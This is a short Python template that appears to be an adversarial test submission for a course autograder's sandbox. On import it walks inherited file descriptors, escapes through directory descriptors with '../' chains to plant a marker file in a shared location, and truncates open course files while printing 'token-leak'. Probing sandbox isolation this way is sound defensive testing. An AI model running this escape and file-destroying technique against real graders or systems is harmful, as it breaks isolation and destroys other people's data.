"""Writes to, and goes up from, every descriptor its process was born with.

Deserves: 2 points.
Side effect: file.
"""

import os
import stat

NAME = "{name}"


def write():
    for number in range(256):
        try:
            mode = os.fstat(number).st_mode
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if stat.S_ISDIR(mode):
            for up in ("", "../" * 20):
                try:
                    where = os.open(f"{up}{'{shared}'.lstrip('/')}", os.O_RDONLY, dir_fd=number)
                    os.close(os.open(NAME, os.O_CREAT | os.O_WRONLY, dir_fd=where))
                except OSError:
                    pass
        elif stat.S_ISREG(mode) and target.startswith("{course}"):
            os.truncate(number, 0)
            print("token-leak: had", target)
    try:
        os.close(os.open("{shared}/" + NAME, os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass


write()


def guess():
    write()
    return "wrong"


numbers = guess
